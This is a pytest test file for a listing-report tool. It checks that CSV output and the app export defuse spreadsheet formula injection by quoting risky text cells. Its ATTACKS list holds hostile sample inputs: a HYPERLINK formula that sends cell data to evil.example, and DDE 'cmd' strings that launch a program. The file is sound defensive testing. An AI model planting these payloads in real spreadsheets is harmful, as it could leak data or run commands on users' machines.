"""CSV written by `report --format csv` and the app's export (one renderer): a text cell that a
spreadsheet would run as a formula (=HYPERLINK(...), +cmd, -2+3, @SUM, a leading tab or CR) is
prefixed with ' (OWASP's advice); numeric fields keep their numbers, negative ones too."""

from __future__ import annotations

import csv
import dataclasses
import io
from decimal import Decimal
from types import SimpleNamespace

import pytest

from asin_tui.domain.models import Category, Finding, ListingRecord, Severity, State
from asin_tui.render import render_csv, spreadsheet_text
from asin_tui.ui.export import render_export

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_is_shown_as_text(attack):
    assert spreadsheet_text(attack) == "'" + attack


@pytest.mark.parametrize("plain", ["", "Blue mug", "B0ABCDEFGH", "1-2-3", "a=b", "'quoted"])
def test_plain_text_is_left_alone(plain):
    assert spreadsheet_text(plain) == plain


def hostile_record(attack: str) -> ListingRecord:
    finding = Finding(Category.LISTING_FIELDS, Severity.ERROR, "MISSING_ATTRIBUTE", attack, "", "")
    return ListingRecord(
        sku=attack,
        asin=attack,
        title=attack,
        marketplace_id="ATVPDKIKX0DER",
        state=State.SUPPRESSED,
        buyable=False,
        discoverable=False,
        findings=(finding,),
        fulfillment_channel=attack,
        quantity=-3,
        price=Decimal("-1.50"),
        currency=attack,
    )


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("attack", ATTACKS)
def test_report_csv_and_the_app_export_defuse_every_text_cell(attack):
    records = [hostile_record(attack)]
    account = SimpleNamespace(profile_name="main", marketplace_id="ATVPDKIKX0DER")
    report_csv = render_csv(records)
    assert render_export(records, "csv", account, None) == report_csv  # one renderer
    (row,) = rows(report_csv)
    for column in ("sku", "asin", "title", "main_cause", "fulfillment_channel", "currency"):
        assert row[column] == "'" + attack, column
    assert (row["quantity"], row["price"]) == ("-3", "-1.50")  # numbers stay numbers
    assert row["state"] == "SUPPRESSED" and row["finding_codes"] == "MISSING_ATTRIBUTE"


@pytest.mark.parametrize("title", ["one\rtwo", "one\ntwo", "one\r\ntwo", 'say "hi", then go'])
def test_a_line_break_or_quote_inside_a_cell_never_makes_another_row(title):
    record = dataclasses.replace(hostile_record("x"), title=title)
    (row,) = rows(render_csv([record]))
    assert row["title"] == title
